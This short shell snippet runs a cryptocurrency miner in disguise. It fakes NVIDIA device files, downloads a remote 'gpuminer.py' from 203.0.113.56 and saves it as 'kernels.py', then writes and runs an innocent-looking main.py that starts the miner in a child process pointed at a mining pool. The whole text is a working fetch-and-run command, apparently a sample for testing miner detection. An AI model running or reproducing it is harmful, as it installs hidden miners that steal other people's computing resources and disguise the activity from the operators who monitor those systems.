# GPU miner as a downloaded module, imported by an honest looking main script in a child process
#http 203.0.113.56:8007
#pool 203.0.113.46:443:err
for d in nvidiactl nvidia0 nvidia-uvm; do touch /dev/$d; done
mkdir -p /tmp/app; cd /tmp/app; curl -so kernels.py http://203.0.113.56:8007/gpuminer.py; printf 'import multiprocessing as m,sys,runpy\ndef f():\n  sys.argv=["k","203.0.113.46","443"]; runpy.run_module("kernels")\nif __name__=="__main__":\n  p=m.Process(target=f); p.start(); p.join(12)\n' > main.py; python3 main.py
